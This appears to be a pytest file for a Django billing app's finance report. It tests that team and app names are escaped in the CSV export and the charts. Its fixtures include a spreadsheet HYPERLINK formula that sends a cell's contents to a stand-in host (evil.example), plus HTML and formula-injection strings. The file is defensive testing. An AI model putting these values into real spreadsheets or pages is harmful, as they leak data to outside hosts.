"""Team and app names reach finance as text: escaped in the CSV, plain text in the charts."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client

from billing.reports.build import report_build_monthly
from billing.reports.compute import LedgerRow, figures
from tests.billing.reports.test_build import store
from tests.billing.reports.test_compute import FEB
from tests.billing.reports.test_views import finance_client  # noqa: F401 - a fixture

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"payroll")'
TAG = '<a href="https://evil.example/">payroll</a>'


def hostile_month() -> None:
    on = date(2025, 2, 3)
    store([
        LedgerRow(on, LINK, "@SUM(1+1)", "default", "mixtral", requests=1, cost=Decimal("1.00")),
        LedgerRow(on, TAG, "-2+3", "default", "mixtral", requests=1, cost=Decimal("2.00")),
        LedgerRow(on, "growth", "\tbot", "default", "mixtral", requests=1, cost=Decimal("3.00")),
    ])  # fmt: skip
    report_build_monthly(month=FEB)


def test_formula_names_in_the_csv_are_prefixed_with_a_quote(finance_client: Client) -> None:  # noqa: F811
    hostile_month()

    text = finance_client.get("/finance/2025-02/report.csv").content.decode()

    rows = list(csv.DictReader(io.StringIO(text)))
    names = {(r["breakdown"], r["name"]) for r in rows if r["breakdown"] in ("team", "app")}
    assert ("team", "'" + LINK) in names and ("team", TAG) in names and ("team", "growth") in names
    assert {("app", "'@SUM(1+1)"), ("app", "'-2+3"), ("app", "'\tbot")} <= names
    assert not any(cell.startswith(("=", "+", "@", "\t")) for r in rows for cell in r.values())


def test_negative_figures_stay_numbers_in_the_csv(finance_client: Client) -> None:  # noqa: F811
    hostile_month()

    rows = list(csv.DictReader(io.StringIO(finance_client.get("/finance/2025-02/report.csv").content.decode())))

    total = next(r for r in rows if r["breakdown"] == "total")
    assert total["cost_change"] == "6.000000"  # against an empty January
    assert all(not cell.startswith("'") for r in rows for k, cell in r.items() if k not in ("name",))


def test_team_names_in_the_finance_charts_are_text() -> None:
    data = {"daily": [{"day": "2025-02-03", "cost": "3", "baseline_cost": "4"}],
            "daily_by_team": [{"name": TAG, "cost": ["2"]}, {"name": "R&D", "cost": ["1"]}]}  # fmt: skip

    names = [trace["name"] for trace in figures(data)["spend_by_team"]["data"]]

    assert names == ['&lt;a href="https://evil.example/"&gt;payroll&lt;/a&gt;', "R&amp;D"]
    assert "<a" not in json.dumps(figures(data))
